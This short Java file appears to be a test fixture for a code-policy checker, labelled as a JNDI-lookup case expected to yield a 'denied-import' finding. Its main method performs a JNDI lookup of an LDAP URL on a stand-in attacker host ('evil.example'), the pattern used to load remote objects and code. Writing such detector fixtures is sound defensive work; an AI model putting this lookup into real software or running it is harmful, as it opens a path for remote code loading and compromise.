// family: names resolved from strings — JNDI lookups load remote objects
// expected finding: denied-import
import javax.naming.InitialContext;

public class JndiLookup {
    public static void main(String[] args) throws Exception {
        new InitialContext().lookup("ldap://evil.example/obj");
    }
}
